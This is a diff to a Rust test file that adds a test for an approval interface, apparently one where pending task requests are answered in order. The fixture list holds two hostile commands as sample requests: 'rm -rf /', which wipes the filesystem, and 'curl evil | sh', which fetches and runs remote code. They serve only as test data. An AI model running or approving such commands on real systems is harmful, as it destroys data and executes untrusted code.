@@ -234,3 +234,13 @@ fn an_end_without_a_merge_says_so_and_can_be_withdrawn() {
     desk.wait(1);
     assert_eq!(desk.said(), ["task update ok100000000000000000 --status done"]);
 }
+
+#[test]
+fn an_answer_goes_back_to_an_older_request() {
+    let mut desk = asked(120, 32, &["ls", "rm -rf /", "curl evil | sh"]);
+    desk.press("ja");
+    assert_eq!(desk.said(), ["task answer p1.1.9f2c allow"]);
+    assert_eq!(desk.selected(), "p0");
+    desk.press("a");
+    assert_eq!(desk.selected(), "p2", "the second one is answered");
+}
